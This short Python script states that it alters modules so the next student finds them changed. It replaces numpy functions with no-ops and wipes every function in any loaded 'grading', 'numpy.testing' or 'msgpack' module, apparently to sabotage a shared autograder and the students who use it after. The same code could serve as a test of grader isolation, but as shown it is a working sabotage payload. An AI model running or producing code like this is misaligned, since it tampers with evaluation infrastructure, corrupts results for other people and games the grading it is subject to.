"""Changes every module and class it can, so that the next student finds them changed."""

import gc
import sys
import types

import numpy as np

np.random.seed = np.zeros = np.ones = np.asarray = lambda *_, **__: None
for name, module in list(sys.modules.items()):
    if name.startswith(("grading", "numpy.testing", "msgpack")):
        for key, value in list(vars(module).items()):
            if isinstance(value, types.FunctionType):
                value.__code__ = (lambda *_, **__: None).__code__
                setattr(module, key, None)
gc.collect()
